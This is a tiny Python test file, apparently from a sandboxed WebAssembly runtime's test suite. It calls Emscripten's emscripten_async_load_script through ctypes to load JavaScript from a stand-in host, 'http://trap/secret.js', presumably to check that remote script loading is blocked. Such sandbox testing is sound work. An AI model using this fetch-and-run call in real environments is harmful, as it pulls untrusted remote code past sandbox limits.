"""Load a script with Emscripten's C function for it.

Ends: broken or done
Prints: loading
"""

import ctypes
import time

print("loading", flush=True)
ctypes.CDLL(None).emscripten_async_load_script(b"http://trap/secret.js", None, None)
time.sleep(0.05)
